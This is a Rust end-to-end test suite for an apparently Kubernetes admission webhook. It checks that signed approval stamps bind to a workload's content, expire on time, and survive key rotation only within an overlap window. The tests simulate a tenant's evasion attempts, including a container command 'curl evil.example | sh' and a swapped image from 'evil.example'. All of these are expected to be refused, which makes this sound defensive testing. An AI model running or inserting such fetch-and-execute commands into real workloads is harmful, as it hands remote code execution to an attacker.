//! Approvals bound to what was approved (issue 25), on the real control plane: the stamp's
//! content digest must hold between the Deployment and the ReplicaSet its controller makes
//! (defaulting, `pod-template-hash`) and through `kubectl rollout restart`, and break for any
//! change a tenant makes, however it is split; every stamp expires; a key rotation honours
//! the previous key's grants until its overlap ends, and only those re-approved after it.
//!
//! The rotation case restarts the suite's webhook (same port, certificate and policy) with a
//! new key and the suite's key as the previous one, and restarts it as it was at the end,
//! whatever happened; the flags' parsing and the overlap's edges are tested at `serve`'s flag
//! level (src/cli/serve.rs) and on the engine with the review's clock
//! (src/engine/tests_controllers.rs).

use crate::support::*;
use crate::workloads::{audit_log_has, pods_of, wait_for_pods, workload};
use openclaw_admission::engine::approval::grant::{Grant, Keys};
use openclaw_admission::engine::date::format_utc;
use serde_json::{Value, json};
use std::ffi::OsStr;
use std::path::Path;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

const NS: &str = "e2e-approvals";
const EVIL: &str = "evil.example/anything:latest";

fn expect(cond: bool, what: impl FnOnce() -> String) -> Result<(), String> {
    if cond { Ok(()) } else { Err(what()) }
}

fn unix_now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs() as i64)
}

/// The tenant's namespace: agent ServiceAccount, default-deny egress, `bob` and `mallory`
/// bound to `edit`, enforcing.
fn namespace(env: &Env) -> Result<(), String> {
    env.apply_docs(&[
        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS,
            "labels": {"openclaw.io/mode": "enforce"}}}),
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": AGENT_SA, "namespace": NS}}),
        deny_egress_policy(NS),
    ])?;
    editors(env, NS)?;
    env.wait_for_default_service_account(NS)
}

/// An agent that writes to its root filesystem and asks for that check's exemption.
fn writable(until: Option<&str>) -> Value {
    let mut p = hardened_pod(NS, "x");
    p["spec"]["containers"][0]["securityContext"]["readOnlyRootFilesystem"] = json!(false);
    p["metadata"]["annotations"]["openclaw.io/exempt"] = "read-only-root-filesystem".into();
    if let Some(u) = until {
        p["metadata"]["annotations"]["openclaw.io/exempt-until"] = u.into();
    }
    p
}

/// `kubectl -n NS <who> <args>`.
fn as_who(env: &Env, who: &[&str], args: &[&str]) -> Output {
    let mut all = vec!["-n", NS];
    all.extend_from_slice(who);
    all.extend_from_slice(args);
    env.kubectl(&all)
}

fn stamp_of(d: &Value) -> Option<String> {
    d["spec"]["template"]["metadata"]["annotations"]["openclaw.io/approval"]
        .as_str()
        .map(String::from)
}

fn replicasets(env: &Env, name: &str) -> Result<Vec<Value>, String> {
    let list = env.kubectl_json(&[
        "-n",
        NS,
        "get",
        "replicasets",
        "-l",
        &format!("e2e-workload={name}"),
        "-o",
        "json",
    ])?;
    Ok(list["items"].as_array().cloned().unwrap_or_default())
}

/// The events of `object` in NS, as `reason: message` lines.
fn events_of(env: &Env, object: &str) -> String {
    env.kubectl(&[
        "-n",
        NS,
        "get",
        "events",
        "--field-selector",
        &format!("involvedObject.name={object}"),
        "-o",
        "custom-columns=REASON:.reason,MSG:.message",
    ])
    .stdout
}

fn image_of(v: &Value) -> &str {
    v["spec"]["template"]["spec"]["containers"][0]["image"]
        .as_str()
        .or_else(|| v["spec"]["containers"][0]["image"].as_str())
        .unwrap_or("")
}

/// Waits until the webhook judges NS in `mode` (the namespace label is followed by watch):
/// a server-side dry run of a writable agent Pod by the tenant is refused under enforce only.
fn wait_for_mode(env: &Env, mode: &str) -> Result<(), String> {
    let out = env.kubectl(&[
        "label",
        "namespace",
        NS,
        &format!("openclaw.io/mode={mode}"),
        "--overwrite",
    ]);
    expect(out.ok, || out.all())?;
    let mut probe = writable(None);
    probe["metadata"]["name"] = "mode-probe".into();
    probe["metadata"]["annotations"] = json!({});
    env.eventually(20, || {
        let out = env.kubectl_stdin(
            &["apply", "--dry-run=server", "-f", "-", AS_USER[0]],
            &probe.to_string(),
        );
        if out.ok == (mode != "enforce") {
            Ok(())
        } else {
            Err(format!("namespace not yet judged as {mode}: {}", out.all()))
        }
    })
}

pub fn approvals_bound_to_content(env: &Env) -> Result<(), String> {
    namespace(env)?;
    let name = "approved";
    let out = env.apply(
        &workload("Deployment", NS, name, &writable(None)),
        &AS_APPROVER,
    );
    expect(out.ok, || {
        format!("approver's Deployment refused: {}", out.all())
    })?;
    let stored = env.kubectl_json(&["-n", NS, "get", "deployment", name, "-o", "json"])?;
    let stamp = stamp_of(&stored).ok_or("no approval stamp on the approver's Deployment")?;
    expect(
        stamp.starts_with("v2;") && stamp.contains(";digest=") && stamp.contains(";expires="),
        || format!("the stamp signs no digest or expiry: {stamp}"),
    )?;
    // The ReplicaSet the controller made (defaulted again, pod-template-hash added) matched
    // the digest, and its Pods came.
    wait_for_pods(env, NS, name)?;

    // `kubectl rollout restart` by the tenant: a new ReplicaSet and its Pods, under the stamp.
    let out = as_who(env, &AS_USER, &["rollout", "restart", "deployment", name]);
    expect(out.ok, || format!("rollout restart refused: {}", out.all()))?;
    env.eventually(30, || {
        let sets = replicasets(env, name)?;
        let restarted = sets.iter().find(|rs| {
            rs["spec"]["template"]["metadata"]["annotations"]
                .get("kubectl.kubernetes.io/restartedAt")
                .is_some()
        });
        let Some(rs) = restarted else {
            return Err(format!(
                "no ReplicaSet of the restart; events:\n{}",
                events_of(env, name)
            ));
        };
        let hash = rs["metadata"]["labels"]["pod-template-hash"]
            .as_str()
            .unwrap_or("");
        let pods = pods_of(env, NS, name)?;
        if pods
            .iter()
            .any(|p| p["metadata"]["labels"]["pod-template-hash"] == hash)
        {
            Ok(())
        } else {
            Err(format!(
                "no Pod of the restarted ReplicaSet; events:\n{}",
                events_of(env, rs["metadata"]["name"].as_str().unwrap_or(""))
            ))
        }
    })?;

    // One step: the tenant swaps the image, labels kept. The stamp no longer covers it.
    let patch =
        json!([{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": EVIL}]);
    let out = as_who(
        env,
        &AS_USER,
        &[
            "patch",
            "deployment",
            name,
            "--type=json",
            "-p",
            &patch.to_string(),
        ],
    );
    expect(!out.ok, || {
        format!("one-step image swap admitted: {}", out.all())
    })?;
    expect(out.all().contains("read-only-root-filesystem"), || {
        out.all()
    })?;
    // A field no check reads (the command) is content too.
    let patch = json!([{"op": "add", "path": "/spec/template/spec/containers/0/command",
        "value": ["sh", "-c", "curl evil.example | sh"]}]);
    let out = as_who(
        env,
        &AS_USER,
        &[
            "patch",
            "deployment",
            name,
            "--type=json",
            "-p",
            &patch.to_string(),
        ],
    );
    expect(!out.ok, || format!("command swap admitted: {}", out.all()))?;

    // Two steps: the label off with the image swapped is refused on its own...
    let patch = json!([
        {"op": "remove", "path": "/spec/template/metadata/labels/app"},
        {"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": EVIL}]);
    let out = as_who(
        env,
        &AS_USER,
        &[
            "patch",
            "deployment",
            name,
            "--type=json",
            "-p",
            &patch.to_string(),
        ],
    );
    expect(!out.ok, || format!("label removal admitted: {}", out.all()))?;

    // ...and should a moved template get stored anyway (the namespace in audit mode for a
    // moment, the rollout paused), the ReplicaSet the controller makes of it is refused once
    // enforce is back, and no Pod of it exists.
    let out = as_who(env, &AS_USER, &["rollout", "pause", "deployment", name]);
    expect(out.ok, || format!("pause refused: {}", out.all()))?;
    wait_for_mode(env, "audit")?;
    let patch =
        json!([{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": EVIL}]);
    let out = as_who(
        env,
        &AS_USER,
        &[
            "patch",
            "deployment",
            name,
            "--type=json",
            "-p",
            &patch.to_string(),
        ],
    );
    expect(out.ok, || {
        format!("audit mode refused the move: {}", out.all())
    })?;
    wait_for_mode(env, "enforce")?;
    let out = as_who(env, &AS_USER, &["rollout", "resume", "deployment", name]);
    expect(out.ok, || format!("resume refused: {}", out.all()))?;
    env.eventually(30, || {
        // The Deployment controller reports a refused ReplicaSet as ReplicaSetCreateError.
        let events = events_of(env, name);
        if events.contains("ReplicaSetCreateError")
            && events.contains("refused ReplicaSet")
            && events.contains("read-only-root-filesystem")
        {
            Ok(())
        } else {
            Err(format!(
                "no refused ReplicaSet in the Deployment's events:\n{events}"
            ))
        }
    })?;
    let sets = replicasets(env, name)?;
    expect(!sets.iter().any(|rs| image_of(rs) == EVIL), || {
        "a ReplicaSet of the moved template exists".into()
    })?;
    let pods = pods_of(env, NS, name)?;
    expect(!pods.iter().any(|p| image_of(p) == EVIL), || {
        "a Pod of the moved template exists".into()
    })?;

    // The replay: the approver deletes it; the tenant recreates it with the saved stamp,
    // unchanged or changed. Both are judged without the stamp.
    let out = as_who(
        env,
        &AS_APPROVER,
        &["delete", "deployment", name, "--wait=true"],
    );
    expect(out.ok, || format!("delete: {}", out.all()))?;
    let mut saved = workload("Deployment", NS, name, &writable(None));
    saved["spec"]["template"]["metadata"]["annotations"]["openclaw.io/approval"] =
        stamp.clone().into();
    let out = env.apply(&saved, &AS_USER);
    expect(!out.ok, || {
        format!("unchanged replay admitted: {}", out.all())
    })?;
    saved["spec"]["template"]["spec"]["containers"][0]["image"] = EVIL.into();
    let out = env.apply(&saved, &AS_USER);
    expect(!out.ok, || {
        format!("changed replay admitted: {}", out.all())
    })?;
    expect(out.all().contains("read-only-root-filesystem"), || {
        out.all()
    })
}

pub fn approvals_expire(env: &Env) -> Result<(), String> {
    namespace(env)?;
    let name = "short-lived";
    // 20 s from now, in the one date format the project writes.
    let until_secs = unix_now() + 20;
    let until = format_utc(until_secs);
    let out = env.apply(
        &workload("Deployment", NS, name, &writable(Some(&until))),
        &AS_APPROVER,
    );
    expect(out.ok, || {
        format!("approver's Deployment refused: {}", out.all())
    })?;
    let stored = env.kubectl_json(&["-n", NS, "get", "deployment", name, "-o", "json"])?;
    let stamp = stamp_of(&stored).ok_or("no approval stamp")?;
    expect(stamp.contains(&format!(";expires={until_secs};")), || {
        format!("the stamp does not expire at {until}: {stamp}")
    })?;
    wait_for_pods(env, NS, name)?;
    let before = pods_of(env, NS, name)?.len();

    // Past the expiry, a new Pod of the same ReplicaSet (a scale by the tenant) is refused.
    let wait = until_secs + 2 - unix_now();
    if wait > 0 {
        std::thread::sleep(Duration::from_secs(wait as u64));
    }
    let out = as_who(
        env,
        &AS_USER,
        &["scale", "deployment", name, "--replicas=2"],
    );
    expect(out.ok, || format!("scale refused: {}", out.all()))?;
    let rs = replicasets(env, name)?
        .first()
        .and_then(|rs| rs["metadata"]["name"].as_str().map(String::from))
        .ok_or("no ReplicaSet")?;
    env.eventually(30, || {
        let events = events_of(env, &rs);
        if events.contains("FailedCreate") && events.contains("read-only-root-filesystem") {
            Ok(())
        } else {
            Err(format!(
                "no refused Pod in the ReplicaSet's events:\n{events}"
            ))
        }
    })?;
    let after = pods_of(env, NS, name)?.len();
    expect(after == before, || {
        format!("{after} Pods after the expiry, {before} before")
    })
}

const ROTATED: &str = "rotated";
/// How long the previous key is honoured after the rotation: long enough for the restart and
/// one scale through the controllers, short enough to wait out.
const OVERLAP_SECS: i64 = 45;

/// An approval key file's key, as `serve` reads it.
fn read_key(path: &Path) -> Result<Vec<u8>, String> {
    let key = std::fs::read(path).map_err(|e| format!("{}: {e}", path.display()))?;
    Ok(key.trim_ascii().to_vec())
}

/// Whether `stamp` verifies under `key` alone, now.
fn signed_by(stamp: &str, key: &[u8]) -> bool {
    let keys = Keys {
        current: Some(key),
        previous: None,
    };
    Grant::verify(stamp, keys, unix_now()).is_ok()
}

/// The API server's audit events holding every one of `needles` and none of `without`.
fn audit_events(env: &Env, needles: &[&str], without: &str) -> usize {
    std::fs::read_to_string(&env.audit_log)
        .unwrap_or_default()
        .lines()
        .filter(|l| needles.iter().all(|n| l.contains(n)) && !l.contains(without))
        .count()
}

/// Waits until the (re)started webhook answers the API server: a server-side dry run of a
/// writable agent Pod by the tenant is refused by name.
fn webhook_answers(env: &Env) -> Result<(), String> {
    let mut probe = writable(None);
    probe["metadata"]["name"] = "restart-probe".into();
    probe["metadata"]["annotations"] = json!({});
    env.eventually(30, || {
        let out = env.kubectl_stdin(
            &["apply", "--dry-run=server", "-f", "-", AS_USER[0]],
            &probe.to_string(),
        );
        if !out.ok && out.all().contains("read-only-root-filesystem") {
            Ok(())
        } else {
            Err(format!("the webhook does not answer yet: {}", out.all()))
        }
    })
}

/// A rotation with overlap (`--previous-approval-key-file`, `--previous-approval-key-until`)
/// on a running webhook; the suite's webhook is restored at the end, whatever happened.
pub fn rotation_keeps_old_grants_until_the_overlap_ends(env: &Env) -> Result<(), String> {
    namespace(env)?;
    let result = rotation(env);
    let _ = as_who(
        env,
        &AS_APPROVER,
        &[
            "delete",
            "deployment",
            ROTATED,
            "--ignore-not-found",
            "--wait=true",
        ],
    );
    let restored = env
        .restart_webhook(None, &[])
        .and_then(|()| webhook_answers(env));
    match (result, restored) {
        (r, Ok(())) => r,
        (r, Err(e)) => Err(format!(
            "{}the suite's webhook was not restored: {e}",
            r.err().map(|e| format!("{e}\n")).unwrap_or_default()
        )),
    }
}

fn rotation(env: &Env) -> Result<(), String> {
    let manifest = |replicas: u32| {
        let mut d = workload("Deployment", NS, ROTATED, &writable(None));
        d["spec"]["replicas"] = replicas.into();
        d
    };
    let key_a = read_key(&env.approval_key_file())?;

    // The approver's Deployment, stamped under the suite's key (A); its Pod comes.
    let out = env.apply(&manifest(1), &AS_APPROVER);
    expect(out.ok, || {
        format!("approver's Deployment refused: {}", out.all())
    })?;
    let stored = env.kubectl_json(&["-n", NS, "get", "deployment", ROTATED, "-o", "json"])?;
    let stamp_a = stamp_of(&stored).ok_or("no approval stamp on the approver's Deployment")?;
    expect(signed_by(&stamp_a, &key_a), || {
        format!("the stamp is not signed by the suite's key: {stamp_a}")
    })?;
    wait_for_pods(env, NS, ROTATED)?;

    // The rotation: a new key (B) current, A previous until a moment ahead.
    let key_b_path = env.dir.path().join("approval-rotated.key");
    let key_b: String = (0..4).map(|_| format!("{:016x}", rand_u64())).collect();
    std::fs::write(&key_b_path, &key_b).map_err(|e| e.to_string())?;
    let until_secs = unix_now() + OVERLAP_SECS;
    let until = format_utc(until_secs);
    let a_path = env.approval_key_file();
    env.restart_webhook(
        Some(&key_b_path),
        &[
            OsStr::new("--previous-approval-key-file"),
            a_path.as_os_str(),
            OsStr::new("--previous-approval-key-until"),
            OsStr::new(&until),
        ],
    )?;
    expect(
        env.webhook_log_text().contains("approval key rotated"),
        || "the restarted webhook did not log the rotation".into(),
    )?;
    webhook_answers(env)?;

    // During the overlap: the tenant scales up, and the ReplicaSet controller's new Pod is
    // admitted under the grant A signed, which the audit annotation says.
    let out = as_who(
        env,
        &AS_USER,
        &["scale", "deployment", ROTATED, "--replicas=2"],
    );
    expect(out.ok, || format!("scale refused: {}", out.all()))?;
    let rs = replicasets(env, ROTATED)?
        .first()
        .and_then(|rs| rs["metadata"]["name"].as_str().map(String::from))
        .ok_or("no ReplicaSet")?;
    env.eventually(30, || {
        let n = pods_of(env, NS, ROTATED)?.len();
        if n == 2 {
            Ok(())
        } else {
            Err(format!(
                "{n} Pods during the overlap (until {until}), want 2; the ReplicaSet's events:\n{}",
                events_of(env, &rs)
            ))
        }
    })?;
    let of_rotated = [
        "replicaset-controller",
        "openclaw-approval",
        "Deployment e2e-approvals/rotated",
    ];
    env.eventually(10, || {
        let mut needles = of_rotated.to_vec();
        needles.push("signed by the previous approval key");
        if audit_log_has(env, &needles) {
            Ok(())
        } else {
            Err(
                "no audit event of the controller's Pod saying the previous key signed its grant"
                    .into(),
            )
        }
    })?;

    // After the overlap, the grant A signed is refused: a scale gets no new Pod.
    let wait = until_secs + 2 - unix_now();
    if wait > 0 {
        std::thread::sleep(Duration::from_secs(wait as u64));
    }
    let before = pods_of(env, NS, ROTATED)?.len();
    let out = as_who(
        env,
        &AS_USER,
        &["scale", "deployment", ROTATED, "--replicas=3"],
    );
    expect(out.ok, || format!("scale refused: {}", out.all()))?;
    env.eventually(30, || {
        let events = events_of(env, &rs);
        if events.contains("FailedCreate") && events.contains("read-only-root-filesystem") {
            Ok(())
        } else {
            Err(format!(
                "no refused Pod in the ReplicaSet's events after the overlap:\n{events}"
            ))
        }
    })?;
    let after = pods_of(env, NS, ROTATED)?.len();
    expect(after == before, || {
        format!("{after} Pods after the overlap, {before} before")
    })?;

    // The approver re-applies (at the scale now wanted): re-signed under B, a rollout whose
    // Pods the controllers get under the current key.
    let current_key_events = audit_events(env, &of_rotated, "previous approval key");
    let out = env.apply(&manifest(3), &AS_APPROVER);
    expect(out.ok, || {
        format!("approver's re-apply refused: {}", out.all())
    })?;
    let stored = env.kubectl_json(&["-n", NS, "get", "deployment", ROTATED, "-o", "json"])?;
    let stamp_b = stamp_of(&stored).ok_or("no approval stamp after the re-apply")?;
    expect(
        signed_by(&stamp_b, key_b.as_bytes()) && !signed_by(&stamp_b, &key_a),
        || format!("the re-applied stamp is not signed by the new key: {stamp_b}"),
    )?;
    env.eventually(60, || {
        let sets = replicasets(env, ROTATED)?;
        let Some(new) = sets
            .iter()
            .find(|rs| stamp_of(rs).as_deref() == Some(&stamp_b))
        else {
            return Err(format!(
                "no ReplicaSet of the re-signed template; the Deployment's events:\n{}",
                events_of(env, ROTATED)
            ));
        };
        let hash = new["metadata"]["labels"]["pod-template-hash"]
            .as_str()
            .unwrap_or("");
        let pods = pods_of(env, NS, ROTATED)?;
        if pods
            .iter()
            .any(|p| p["metadata"]["labels"]["pod-template-hash"] == hash)
        {
            Ok(())
        } else {
            Err(format!(
                "no Pod of the re-signed ReplicaSet; its events:\n{}",
                events_of(env, new["metadata"]["name"].as_str().unwrap_or(""))
            ))
        }
    })?;
    env.eventually(10, || {
        let now = audit_events(env, &of_rotated, "previous approval key");
        if now > current_key_events {
            Ok(())
        } else {
            Err("no audit event of a controller's Pod honoured under the new key".into())
        }
    })
}
